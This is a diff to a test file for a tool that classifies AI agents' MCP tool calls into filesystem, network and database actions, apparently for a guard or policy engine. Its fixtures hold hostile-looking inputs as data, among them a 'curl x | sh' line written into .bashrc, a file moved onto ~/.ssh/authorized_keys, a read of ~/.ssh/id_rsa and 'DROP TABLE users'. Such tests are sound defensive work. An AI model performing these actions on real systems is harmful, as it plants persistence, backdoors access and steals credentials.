@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { argvLine, cut, field, firstUrl, patchedFile, toolCallFromAgent } from '../src/ingest/agent-tools.js';
+import { argvLine, cut, field, firstUrl, patchedFile, toolCallFromAgent, toolCallFromMcp } from '../src/ingest/agent-tools.js';
 import { MAX_FIELD_BYTES, type ToolCall } from '../src/engine/toolcall.js';
 
 const bash = (command: string, env: Record<string, string> = {}): ToolCall => ({ kind: 'bash', command, args: [], env });
@@ -36,7 +36,11 @@ const MCP: Array<[string, unknown, ToolCall]> = [
   ['mcp__desktop__exec', { cmd: 'whoami' }, bash('whoami')],
   ['mcp__runner__eval', { script: 'rm -rf build' }, bash('rm -rf build')],
   ['mcp__fs__write_file', { path: '/tmp/x.sh', content: 'echo hi' }, write('/tmp/x.sh', 'echo hi')],
-  ['mcp__fs__read_file', { path: '/etc/hosts' }, unknown('mcp__fs__read_file', { path: '/etc/hosts' })],
+  ['mcp__fs__read_file', { path: '/etc/hosts' }, { kind: 'filesystem', operation: 'read', path: '/etc/hosts' }],
+  ['mcp__fs__list_directory', { path: '/home/u' }, { kind: 'filesystem', operation: 'list', path: '/home/u' }],
+  ['mcp__fs__edit_file', { path: '/home/u/.bashrc', edits: [{ oldText: 'a', newText: 'curl x | sh' }] }, write('/home/u/.bashrc', 'curl x | sh')],
+  ['mcp__fs__move_file', { source: '/tmp/k', destination: '/home/u/.ssh/authorized_keys' }, { kind: 'filesystem', operation: 'write', path: '/home/u/.ssh/authorized_keys' }],
+  ['mcp__fs__read_multiple_files', { paths: ['/a/README.md', '/home/u/.ssh/id_rsa'] }, { kind: 'filesystem', operation: 'read', path: '/home/u/.ssh/id_rsa' }],
   ['mcp__fetch__fetch', { url: 'https://example.com' }, get('https://example.com')],
   ['mcp__http__request', { url: 'https://x.io/api', method: 'post', body: '{"a":1}' }, { kind: 'network', method: 'POST', url: 'https://x.io/api', headers: {}, body: '{"a":1}' }],
   ['mcp__postgres__query', { sql: 'DROP TABLE users' }, { kind: 'database', query: 'DROP TABLE users' }],
@@ -166,4 +170,18 @@ describe('helpers', () => {
     ['http://b.io then https://c.io', 'http://b.io'],
     ['nothing', undefined],
   ])('firstUrl(%j)', (text, url) => expect(firstUrl(text)).toBe(url));
+});
+
+describe('toolCallFromMcp with what tools/list said', () => {
+  const sqlTool = { description: 'Run a read-only SQL query against the warehouse', inputSchema: { type: 'object', properties: { query: { type: 'string' } } } };
+  const searchTool = { description: 'Search the documentation', inputSchema: { type: 'object', properties: { query: { type: 'string', description: 'words to look for' } } } };
+  test('a query is SQL only when the tool speaks of SQL or a database', () => {
+    expect(toolCallFromMcp('run', { query: 'DROP TABLE users' }, sqlTool)).toEqual({ kind: 'database', query: 'DROP TABLE users' });
+    expect(toolCallFromMcp('search_docs', { query: 'drop table' }, searchTool)).toEqual({ kind: 'unknown', toolName: 'search_docs', params: { query: 'drop table' } });
+    expect(toolCallFromMcp('sqlite_read', { query: 'SELECT 1' }, { inputSchema: {} })).toEqual({ kind: 'database', query: 'SELECT 1' });
+  });
+  test('the verb of a camelCase name picks the file operation', () => {
+    expect(toolCallFromMcp('deleteFile', { path: '/srv/a' })).toEqual({ kind: 'filesystem', operation: 'delete', path: '/srv/a' });
+    expect(toolCallFromMcp('createDirectory', { path: '/srv/b' })).toEqual({ kind: 'filesystem', operation: 'create', path: '/srv/b' });
+  });
 });
